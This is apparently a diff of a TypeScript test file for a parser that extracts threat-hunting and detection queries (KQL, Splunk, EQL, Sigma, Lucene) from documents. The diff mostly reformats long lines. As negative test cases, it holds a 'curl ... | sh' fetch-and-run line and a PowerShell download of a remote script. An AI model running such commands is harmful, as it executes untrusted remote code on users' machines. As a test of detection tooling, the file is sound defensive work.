@@ -6,11 +6,24 @@ const queries = (text: string) => extractHuntQueries(parseDocument(text)).map((q
 describe('extractHuntQueries', () => {
   it('classifies fenced queries by tag or by content', () => {
     const text = [
-      '```kql', 'DeviceProcessEvents', '| where FileName =~ "mshta.exe"', '```',
-      '```', 'index=wineventlog EventCode=4688', '| stats count by host', '```',
-      '```', 'process where process.name == "regsvr32.exe"', '```',
-      '```sql', "SELECT name, path FROM processes WHERE on_disk = 0;", '```',
-      '```', 'config case_sensitive = false', '| dataset = xdr_data', '```',
+      '```kql',
+      'DeviceProcessEvents',
+      '| where FileName =~ "mshta.exe"',
+      '```',
+      '```',
+      'index=wineventlog EventCode=4688',
+      '| stats count by host',
+      '```',
+      '```',
+      'process where process.name == "regsvr32.exe"',
+      '```',
+      '```sql',
+      'SELECT name, path FROM processes WHERE on_disk = 0;',
+      '```',
+      '```',
+      'config case_sensitive = false',
+      '| dataset = xdr_data',
+      '```',
     ].join('\n');
     expect(queries(text)).toEqual([
       ['kql', 'DeviceProcessEvents'],
@@ -22,7 +35,8 @@ describe('extractHuntQueries', () => {
   });
 
   it('reads unfenced query paragraphs exactly as written', () => {
-    const text = 'Splunk search:\n\nindex=aws sourcetype=aws:cloudtrail eventName=CreateAccessKey\n| stats count by userIdentity.arn\n\nThat is all.';
+    const text =
+      'Splunk search:\n\nindex=aws sourcetype=aws:cloudtrail eventName=CreateAccessKey\n| stats count by userIdentity.arn\n\nThat is all.';
     const [item] = extractHuntQueries(parseDocument(text));
     expect(item.language).toBe('spl');
     expect(item.value).toBe('index=aws sourcetype=aws:cloudtrail eventName=CreateAccessKey\n| stats count by userIdentity.arn');
@@ -30,21 +44,29 @@ describe('extractHuntQueries', () => {
   });
 
   it('reports each embedded Sigma rule as a sigma query', () => {
-    const text = '```yaml\ntitle: A\nlogsource:\n    category: process_creation\ndetection:\n    sel:\n        Image: x\n    condition: sel\n```';
+    const text =
+      '```yaml\ntitle: A\nlogsource:\n    category: process_creation\ndetection:\n    sel:\n        Image: x\n    condition: sel\n```';
     expect(queries(text)).toEqual([['sigma', 'title: A']]);
   });
 
   it('does not report shell snippets, data or prose as queries', () => {
-    const text = '```bash\ncurl -s http://x.test | sh\n```\n```json\n{"where": "process"}\n```\nAnalysts should query process events where possible.';
+    const text =
+      '```bash\ncurl -s http://x.test | sh\n```\n```json\n{"where": "process"}\n```\nAnalysts should query process events where possible.';
     expect(queries(text)).toEqual([]);
   });
 
   it('reads a PowerShell event-log search as a query, even in a powershell-tagged block, but not a PowerShell command', () => {
     const text = [
-      '```powershell', "Get-WinEvent -FilterHashtable @{LogName='Security'; Id=4698} | Where-Object { $_.Message -match 'Updater' }", '```',
-      '```powershell', 'Invoke-WebRequest -Uri http://203.0.113.9/a.ps1 -OutFile a.ps1', '```',
+      '```powershell',
+      "Get-WinEvent -FilterHashtable @{LogName='Security'; Id=4698} | Where-Object { $_.Message -match 'Updater' }",
+      '```',
+      '```powershell',
+      'Invoke-WebRequest -Uri http://203.0.113.9/a.ps1 -OutFile a.ps1',
+      '```',
     ].join('\n');
-    expect(queries(text)).toEqual([['powershell', "Get-WinEvent -FilterHashtable @{LogName='Security'; Id=4698} | Where-Object { $_.Message -match 'Updater' }"]]);
+    expect(queries(text)).toEqual([
+      ['powershell', "Get-WinEvent -FilterHashtable @{LogName='Security'; Id=4698} | Where-Object { $_.Message -match 'Updater' }"],
+    ]);
   });
 
   it('reads ES|QL in any case, Kibana queries over several lines, Falco and auditd rules and Sysmon filters', () => {
@@ -88,7 +110,8 @@ describe('extractHuntQueries', () => {
   });
 
   it('reads a query set as inline code in a sentence, but not a lone field or value', () => {
-    const text = 'The hunt `process where process.name == "osascript" and process.args : "display dialog"` finds the prompt; `process.name : "sh"` alone is a field.';
+    const text =
+      'The hunt `process where process.name == "osascript" and process.args : "display dialog"` finds the prompt; `process.name : "sh"` alone is a field.';
     expect(queries(text)).toEqual([['eql', 'process where process.name == "osascript" and process.args : "display dialog"']]);
   });
 
@@ -103,7 +126,9 @@ describe('extractHuntQueries', () => {
     expect(queries('(event.action:"user.session.start" OR event.action:"user.authentication.sso") AND acme.outcome:"FAILURE"')).toEqual([
       ['lucene', '(event.action:"user.session.start" OR event.action:"user.authentication.sso") AND acme.outcome:"FAILURE"'],
     ]);
-    expect(queries('> event.dataset: acme.audit and event.action: user.mfa.factor.deactivate')).toEqual([['lucene', 'event.dataset: acme.audit and event.action: user.mfa.factor.deactivate']]);
+    expect(queries('> event.dataset: acme.audit and event.action: user.mfa.factor.deactivate')).toEqual([
+      ['lucene', 'event.dataset: acme.audit and event.action: user.mfa.factor.deactivate'],
+    ]);
     expect(queries('```\nevent.action:(user.session.impersonation.initiate or user.session.impersonation.grant)\n```')).toEqual([
       ['lucene', 'event.action:(user.session.impersonation.initiate or user.session.impersonation.grant)'],
     ]);
